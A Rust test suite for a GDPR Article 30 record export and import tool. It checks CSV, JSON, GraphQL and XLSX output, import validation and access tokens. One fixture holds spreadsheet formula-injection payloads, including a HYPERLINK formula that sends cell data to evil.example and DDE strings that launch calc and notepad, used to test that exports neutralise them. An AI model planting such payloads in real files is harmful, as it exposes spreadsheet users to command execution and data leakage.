//! The Article 30 record: the CSV of every seed organisation, cell by cell
//! for a known activity, formulas neutralised, the same rows through HTTP,
//! GraphQL, JSON and XLSX.

use axum::http::StatusCode;
use serde_json::json;

use crate::support::{TestApp, each_backend, seeds};

fn csv_of(reply: &crate::support::Reply) -> String {
    String::from_utf8(reply.body.to_vec()).unwrap()
}

/// The records of `text` as header → cell maps.
fn read_csv(text: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            headers
                .iter()
                .map(str::to_owned)
                .zip(record.iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[tokio::test]
async fn every_seed_organisation_has_its_record() {
    each_backend(|app| async move {
        for organization in seeds::apply_all(&app).await {
            let reply = app
                .download(&format!("/export/article30/{organization}.csv"))
                .await;
            assert_eq!(reply.content_type(), "text/csv; charset=utf-8");
            let csv = csv_of(&reply);
            insta::with_settings!({ snapshot_suffix => organization.as_str() }, {
                insta::assert_snapshot!("article30_controller", csv);
            });
            let rows = read_csv(&csv);
            assert!(
                !rows.is_empty(),
                "{organization} has no controller activity"
            );
            assert!(rows.iter().all(|row| !row["Controller"].is_empty()));
        }
        let processor = app
            .download("/export/article30/cloudinary.csv?role=processor")
            .await;
        insta::assert_snapshot!("article30_processor@cloudinary", csv_of(&processor));
        let none = app
            .download("/export/article30/minio.csv?role=processor")
            .await;
        assert_eq!(
            read_csv(&csv_of(&none)).len(),
            0,
            "minio processes nothing for others"
        );
    })
    .await;
}

#[tokio::test]
async fn the_cells_of_a_known_activity() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let csv = csv_of(&app.download("/export/article30/minio.csv").await);
        let rows = read_csv(&csv);
        let row = rows
            .iter()
            .find(|row| row["Reference"] == "minio-customer-relationships")
            .expect("the customer relationships activity");
        assert_eq!(
            row["Processing activity"],
            "Managing relationships with business customers, partners and vendors"
        );
        assert_eq!(
            row["Categories of personal data"],
            "Email address; Job title and department; Name; Telephone number"
        );
        assert_eq!(row["Categories of individuals"], "Contacts at customers, partners and vendors");
        assert_eq!(
            row["Names of third countries or international organisations that personal data are transferred to (if applicable)"],
            "Canada (CA); Switzerland (CH); The United States of America (US)"
        );
        assert!(row["Categories of recipients"].contains("Service providers acting on our behalf (kind: processor)"));
        assert!(row["The source of the personal data (if applicable)"]
            .contains("Email address: The person, who provides it (kind: the data subject)"));
        assert_eq!(row["Controller"], "MinIO, Inc.");
        assert_eq!(
            row["Controller address"],
            "275 Shoreline Dr, Ste 100, Redwood City, CA 94065, United States"
        );
        assert_eq!(row["Status"], "active");
        // MinIO's policy states no lawful basis for it, so no rights can be
        // derived and the cells stay empty rather than guessed.
        assert_eq!(row["Article 6 lawful basis for processing personal data"], "");
        assert_eq!(row["Rights available to individuals"], "");
        // Rows come in key order, and every row has every column.
        let references: Vec<&str> = rows.iter().map(|row| row["Reference"].as_str()).collect();
        let mut sorted = references.clone();
        sorted.sort();
        assert_eq!(references, sorted);
    })
    .await;
}

#[tokio::test]
async fn lawful_bases_give_the_rights() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let rows = read_csv(&csv_of(
            &app.download("/export/article30/mirantis.csv").await,
        ));
        let with_basis = rows
            .iter()
            .find(|row| !row["Article 6 lawful basis for processing personal data"].is_empty())
            .expect("mirantis states lawful bases");
        let bases = &with_basis["Article 6 lawful basis for processing personal data"];
        let rights = &with_basis["Rights available to individuals"];
        assert!(rights.contains("access (Art. 15)"), "{rights}");
        assert_eq!(
            rights.contains("withdraw consent"),
            bases.contains("Art. 6(1)(a) consent"),
            "{bases} / {rights}"
        );
        assert_eq!(
            rights.contains("object (Art. 21(1))"),
            bases.contains("(e) public task") || bases.contains("(f) legitimate interests"),
            "{bases} / {rights}"
        );
    })
    .await;
}

const HOSTILE: &str = r#"
[organization]
key = "hostile"
name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
address = "@SUM(1+1)*cmd|' /C calc'!A0"

[[purposes]]
key = "hostile-purpose"
name = "+cmd|' /C notepad'!A0"

[[data_categories]]
key = "hostile-category"
name = "-2+3"

[[activities]]
key = "hostile-activity"
name = "=1+1"
description = "'already quoted"
purposes = [{ purpose = "hostile-purpose" }]
data_categories = [{ data_category = "hostile-category" }]
"#;

#[tokio::test]
async fn formulas_in_names_never_run_in_a_spreadsheet() {
    each_backend(|app| async move {
        let sources = [ropa::inventory::SourceText::new("hostile.toml", HOSTILE)];
        ropa::inventory::apply(
            &app.db,
            &ropa::domain::audit::Actor::cli(),
            &sources,
            Default::default(),
        )
        .await
        .unwrap();
        let csv = csv_of(
            &app.download("/export/article30/hostile.csv?excel=true")
                .await,
        );
        assert!(csv.starts_with('\u{feff}'), "Excel CSV starts with a BOM");
        assert!(csv.contains("\r\n"), "and ends lines with CRLF");
        let rows = read_csv(csv.trim_start_matches('\u{feff}'));
        let row = &rows[0];
        assert_eq!(row["Processing activity"], "'=1+1");
        assert_eq!(row["Description"], "''already quoted");
        assert_eq!(row["Purpose of processing"], "'+cmd|' /C notepad'!A0");
        assert_eq!(row["Categories of personal data"], "'-2+3");
        assert_eq!(
            row["Controller"],
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        );
        assert_eq!(row["Controller address"], "'@SUM(1+1)*cmd|' /C calc'!A0");
        for (header, cell) in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{header}: {cell}"
            );
        }
        // JSON is for machines: the values as they are.
        let json = app.download("/export/article30/hostile.json").await.json();
        assert_eq!(json["activities"][0]["activity"], "=1+1");
    })
    .await;
}

#[tokio::test]
async fn graphql_json_and_csv_give_the_same_rows() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let data = app
            .ok(
                "query($org: String!) { article30(organization: $org) { role columns { id header ico several } rows { reference cells { column text values } } csv } }",
                json!({"org": "minio"}),
            )
            .await;
        let record = &data["article30"];
        assert_eq!(record["role"], "CONTROLLER");
        let csv = csv_of(&app.download("/export/article30/minio.csv").await);
        assert_eq!(record["csv"], csv.as_str());
        let rows = read_csv(&csv);
        let graphql_rows = record["rows"].as_array().unwrap();
        assert_eq!(graphql_rows.len(), rows.len());
        let columns = record["columns"].as_array().unwrap();
        for (graphql_row, csv_row) in graphql_rows.iter().zip(&rows) {
            for (column, cell) in columns.iter().zip(graphql_row["cells"].as_array().unwrap()) {
                let header = column["header"].as_str().unwrap();
                assert_eq!(csv_row[header], cell["text"].as_str().unwrap(), "{header}");
            }
        }
        let json = app.download("/export/article30/minio.json").await;
        assert_eq!(json.content_type(), "application/json; charset=utf-8");
        let json = json.json();
        assert_eq!(json["record"], "controller");
        assert_eq!(json["organization"]["key"], "minio");
        assert_eq!(json["activities"].as_array().unwrap().len(), rows.len());
        let first = &json["activities"][0];
        assert_eq!(first["reference"], rows[0]["Reference"].as_str());
        assert_eq!(
            first["data_categories"].as_array().unwrap().len(),
            graphql_rows[0]["cells"][8]["values"].as_array().unwrap().len()
        );
    })
    .await;
}

#[tokio::test]
async fn the_workbook_has_a_sheet_per_record_and_the_transfers() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let reply = app.download("/export/article30/cloudinary.xlsx").await;
        assert_eq!(
            reply.content_type(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        );
        assert!(
            reply.body.starts_with(b"PK"),
            "an XLSX file is a zip archive"
        );
        let disposition = reply.headers["content-disposition"].to_str().unwrap();
        assert_eq!(
            disposition,
            "attachment; filename=\"cloudinary-article30.xlsx\""
        );
        let listing = String::from_utf8_lossy(&reply.body);
        for part in ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet4.xml"] {
            assert!(listing.contains(part), "no {part} in the archive");
        }
    })
    .await;
}

#[tokio::test]
async fn exports_need_a_token_and_name_what_is_wrong() {
    each_backend(|app| async move {
        seeds::apply_all(&app).await;
        let anonymous = app.get_as(None, "/export/article30/minio.csv").await;
        assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
        let revoked = app
            .get_as(Some(&app.tokens.revoked), "/export/article30/minio.csv")
            .await;
        assert_eq!(revoked.status, StatusCode::UNAUTHORIZED);

        let viewer = Some(app.tokens.viewer.as_str());
        let unknown = app.get_as(viewer, "/export/article30/nobody.csv").await;
        assert_eq!(unknown.status, StatusCode::NOT_FOUND);
        assert_eq!(
            unknown.json()["errors"][0]["extensions"]["code"],
            "NOT_FOUND"
        );
        let format = app.get_as(viewer, "/export/article30/minio.pdf").await;
        assert_eq!(format.status, StatusCode::UNPROCESSABLE_ENTITY);
        assert!(
            format.json()["errors"][0]["message"]
                .as_str()
                .unwrap()
                .contains("minio.csv")
        );
        let role = app
            .get_as(viewer, "/export/article30/minio.csv?role=owner")
            .await;
        assert_eq!(role.status, StatusCode::UNPROCESSABLE_ENTITY);

        let graphql = app
            .error("{ article30(organization: \"nobody\") { csv } }", json!({}))
            .await;
        assert_eq!(graphql["extensions"]["code"], "NOT_FOUND");
    })
    .await;
}

const IMPORT: &str = "mutation($org: String!, $document: String!, $skip: Boolean!) { importArticle30(organization: $org, document: $document, skipInvalid: $skip) { role importedRows skipped notes ignoredColumns applied { summary created updated } } }";

/// Imports `document` for `organization` as an editor; the response.
async fn import(
    app: &TestApp,
    organization: &str,
    document: &str,
    skip: bool,
) -> serde_json::Value {
    app.graphql_as(
        Some(&app.tokens.editor),
        IMPORT,
        json!({"org": organization, "document": document, "skip": skip}),
    )
    .await
    .json()
}

#[tokio::test]
async fn every_seed_record_round_trips_through_an_empty_database() {
    each_backend(|app| async move {
        let empty = app.another().await;
        let mut records = Vec::new();
        for organization in seeds::apply_all(&app).await {
            records.push((
                organization.clone(),
                format!("/export/article30/{organization}.csv"),
            ));
        }
        records.push((
            "cloudinary".to_owned(),
            "/export/article30/cloudinary.csv?role=processor".to_owned(),
        ));
        for (organization, path) in &records {
            let exported = csv_of(&app.download(path).await);
            let response = import(&empty, organization, &exported, false).await;
            assert!(
                response.get("errors").is_none(),
                "{organization}: {response:#}"
            );
            let report = &response["data"]["importArticle30"];
            assert_eq!(report["importedRows"], read_csv(&exported).len());
            assert_eq!(report["skipped"], json!([]));
            assert_eq!(report["notes"], json!([]));
            assert_eq!(
                csv_of(&empty.download(path).await),
                exported,
                "{path} changed on the way"
            );
        }
        // Importing a record into the graph it came from changes nothing.
        let minio = csv_of(&app.download("/export/article30/minio.csv").await);
        let again = import(&app, "minio", &minio, false).await;
        let applied = &again["data"]["importArticle30"]["applied"];
        assert_eq!(
            (applied["created"].as_u64(), applied["updated"].as_u64()),
            (Some(0), Some(0)),
            "{again:#}"
        );
        empty.finish().await;
    })
    .await;
}

const ICO_REGISTER: &str = include_str!("data/ico-register.csv");

#[tokio::test]
async fn a_spreadsheet_in_the_ico_layout_becomes_activities() {
    each_backend(|app| async move {
        ropa::inventory::apply(
            &app.db,
            &ropa::domain::audit::Actor::cli(),
            &[ropa::inventory::SourceText::new("catalog.toml", seeds::CATALOG)],
            Default::default(),
        )
        .await
        .unwrap();
        let response = import(&app, "acme", ICO_REGISTER, false).await;
        assert!(response.get("errors").is_none(), "{response:#}");
        let report = &response["data"]["importArticle30"];
        assert_eq!(report["role"], "CONTROLLER");
        assert_eq!(report["importedRows"], 2);
        let csv = csv_of(&app.download("/export/article30/acme.csv").await);
        insta::assert_snapshot!("article30_controller@ico-import", csv);
        let rows = read_csv(&csv);
        let payroll = rows.iter().find(|row| row["Reference"] == "acme-payroll").unwrap();
        assert_eq!(payroll["Controller"], "Acme Analytics Ltd", "from the contact block above the header");
        assert_eq!(payroll["Data protection officer"], "Dana Protector");
        assert_eq!(payroll["Article 6 lawful basis for processing personal data"], "Payroll: Art. 6(1)(c) legal obligation");
        assert_eq!(payroll["Categories of individuals"], "Employees", "the shared catalogue's entry");
        assert_eq!(
            payroll["Names of third countries or international organisations that personal data are transferred to (if applicable)"],
            "India (IN)",
            "a country named alone becomes a transfer to it, its mechanism left for the lint to ask about"
        );
        // The organisation's own new entries carry its key; shared ones stay shared.
        let employees = app.ok("{ dataSubjectCategory(key: \"employees\") { key } }", json!({})).await;
        assert_eq!(employees["dataSubjectCategory"]["key"], "employees");
        // A second import of the same sheet changes nothing.
        let again = import(&app, "acme", ICO_REGISTER, false).await;
        let applied = &again["data"]["importArticle30"]["applied"];
        assert_eq!((applied["created"].as_u64(), applied["updated"].as_u64()), (Some(0), Some(0)), "{again:#}");
        // A later sheet with only some columns changes only those, of the
        // activity it names.
        let update = "Processing activity,Article 6 lawful basis for processing personal data\nPayroll,Art. 6(1)(b) contract\n";
        let updated = import(&app, "acme", update, false).await;
        assert_eq!(updated["data"]["importArticle30"]["applied"]["updated"], 1, "{updated:#}");
        let rows = read_csv(&csv_of(&app.download("/export/article30/acme.csv").await));
        let payroll = rows.iter().find(|row| row["Reference"] == "acme-payroll").unwrap();
        assert_eq!(payroll["Article 6 lawful basis for processing personal data"], "Payroll: Art. 6(1)(b) contract");
        assert_eq!(payroll["Categories of individuals"], "Employees");
        // Every change is in the audit trail, by the editor who imported.
        let audit = app
            .ok("{ auditLog(entity: PROCESSING_ACTIVITY, key: \"acme-payroll\") { edges { node { action actor } } } }", json!({}))
            .await;
        assert_eq!(audit["auditLog"]["edges"][0]["node"]["actor"], "token:test-editor", "{audit:#}");
    })
    .await;
}

const BROKEN: &str = "\
Reference,Processing activity,Purpose of processing,Categories of recipients,Article 6 lawful basis for processing personal data,Names of third countries or international organisations that personal data are transferred to (if applicable),Favourite colour
good-one,Good activity,Billing,,Art. 6(1)(b) contract,,blue
bad-basis,Bad basis,Billing,,Because we can,,red
bad-recipient,Unknown recipient,Billing,Mystery Corp,,,green
bad-country,Bad country,Billing,,,Atlantis,
Not A Key!,Bad reference,Billing,,,,
";

#[tokio::test]
async fn rows_that_cannot_be_read_are_named_and_nothing_is_written() {
    each_backend(|app| async move {
        let tables = [
            "organization",
            "processing_activity",
            "purpose",
            "audit_entry",
        ];
        let mut before = Vec::new();
        for table in tables {
            before.push(app.count(table).await);
        }
        let response = import(&app, "acme", BROKEN, false).await;
        let error = &response["errors"][0];
        assert_eq!(error["extensions"]["code"], "VALIDATION");
        insta::assert_json_snapshot!("article30_import_problems", error["extensions"]["problems"]);
        let mut after = Vec::new();
        for table in tables {
            after.push(app.count(table).await);
        }
        assert_eq!(before, after, "a refused import wrote something");

        let skipping = import(&app, "acme", BROKEN, true).await;
        let report = &skipping["data"]["importArticle30"];
        assert_eq!(report["importedRows"], 1, "{skipping:#}");
        assert_eq!(report["skipped"].as_array().unwrap().len(), 4);
        assert_eq!(report["ignoredColumns"], json!(["Favourite colour"]));
        let rows = read_csv(&csv_of(&app.download("/export/article30/acme.csv").await));
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0]["Reference"], "good-one");
        assert_eq!(
            rows[0]["Article 6 lawful basis for processing personal data"],
            "Billing: Art. 6(1)(b) contract"
        );
    })
    .await;
}

#[tokio::test]
async fn files_that_are_no_record_say_why() {
    each_backend(|app| async move {
        for (document, expected) in [
            ("just,some,words\n1,2,3\n", "no header row"),
            (
                "Processing activity,Purpose of processing,Purpose of processing\nA,B,C\n",
                "is there twice",
            ),
            (
                "Processing activity,Status\nNapping,sleeping\n",
                "'sleeping' is not one of 'planned', 'active', 'retired'",
            ),
            (
                "Processing activity,Description\n,Only a description\n",
                "row 2, column A (Processing activity): the row names no processing activity",
            ),
            ("", "no header row"),
        ] {
            let response = import(&app, "acme", document, false).await;
            let error = &response["errors"][0];
            assert_eq!(
                error["extensions"]["code"], "VALIDATION",
                "{document:?}: {response:#}"
            );
            assert!(
                error["message"].as_str().unwrap().contains(expected),
                "{document:?}: {error:#}"
            );
        }
        assert_eq!(app.count("processing_activity").await, 0);
    })
    .await;
}

#[tokio::test]
async fn hostile_names_survive_the_round_trip() {
    each_backend(|app| async move {
        let sources = [ropa::inventory::SourceText::new("hostile.toml", HOSTILE)];
        ropa::inventory::apply(
            &app.db,
            &ropa::domain::audit::Actor::cli(),
            &sources,
            Default::default(),
        )
        .await
        .unwrap();
        let exported = csv_of(&app.download("/export/article30/hostile.csv").await);
        let empty = app.another().await;
        let response = import(&empty, "hostile", &exported, false).await;
        assert!(response.get("errors").is_none(), "{response:#}");
        assert_eq!(
            csv_of(&empty.download("/export/article30/hostile.csv").await),
            exported
        );
        let name = empty
            .ok(
                "{ processingActivity(key: \"hostile-activity\") { name } }",
                json!({}),
            )
            .await;
        assert_eq!(
            name["processingActivity"]["name"], "=1+1",
            "the guard is taken off on the way in"
        );
        empty.finish().await;
    })
    .await;
}
